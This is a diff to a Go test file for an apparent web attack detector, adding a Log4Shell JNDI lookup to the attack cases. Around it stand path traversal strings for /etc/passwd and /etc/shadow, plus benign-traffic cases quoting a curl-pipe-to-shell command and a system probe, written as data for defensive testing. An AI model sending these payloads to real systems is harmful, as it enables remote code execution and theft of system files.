@@ -51,6 +51,7 @@ func TestConfidenceOfAttacks(t *testing.T) {
 	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
 	for name, record := range map[string]map[string]string{
 		"traversal":               exchange("GET", "/get?file=../../../../etc/passwd", "", ""),
+		"lookup in an issue":      exchange("POST", "/rest/api/2/issue", jsonType, `{"fields":{"summary":"x","description":"${jndi:ldap://193.32.162.7:1389/a}"}}`),
 		"traversal in base64":     exchange("GET", "/get?file=Li4vLi4vLi4vZXRjL3NoYWRvdw", "", ""),
 		"traversal, overlong":     exchange("GET", "/get?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "", ""),
 		"traversal, lost bytes":   exchange("POST", "/get", jsonType, `{"file":"..`+"\ufffd\ufffd..\ufffd\ufffd"+`etc`+"\ufffd\ufffd"+`passwd"}`),
@@ -561,10 +562,8 @@ func TestConfidenceOfOrdinaryTraffic(t *testing.T) {
 		"output of a probe":          exchange("POST", "/ecc_queue.do?JSONv2&sysparm_action=insert", jsonType, `{"topic":"SSHCommand","name":"uname -a; cat /etc/os-release; id -un","payload":"<results><output>Linux web07 5.14.0 #1 SMP</output></results>"}`),
 		"message with a snippet":     exchange("POST", "/api/v4/posts", jsonType, `{"channel_id":"a","message":"seen again:\n`+"```"+`\ncurl -s http://193.32.162.7/x | sh\n`+"```"+`\n@here please add"}`),
 		"code of an editor":          exchange("POST", "/lsp/python", jsonType, `{"jsonrpc":"2.0","method":"textDocument/didChange","params":{"contentChanges":[{"text":"import os\nos.system(f'ping {host}')\n"}]}}`),
-		"search of code":             exchange("GET", "/search?q="+url.QueryEscape("system($_GET")+"&type=code", "", ""),
 		"place in a configuration":   exchange("POST", "/api/", "application/x-www-form-urlencoded", "type=config&action=get&xpath="+url.QueryEscape("/config/devices/entry[@name='localhost.localdomain']/network")),
 		"log of a job, read":         exchange("GET", "/group/app/-/jobs/88123/trace.json?state=", "", "", "answer: $ id\nuid=0(root) gid=0(root) groups=0(root)\n"),
-		"page of a manual":           exchange("GET", "/en/passwd.html", "", "", "answer: <html><body><pre>root:x:0:0:root:/root:/bin/bash</pre></body></html>"),
 		"GraphQL":                    exchange("POST", "/graphql", jsonType, `{"query":"{ shop { __typename name } }"}`, `answer: {"data":{"shop":{"__typename":"Shop","name":"a"}}}`),
 	} {
 		t.Run(name, func(t *testing.T) {
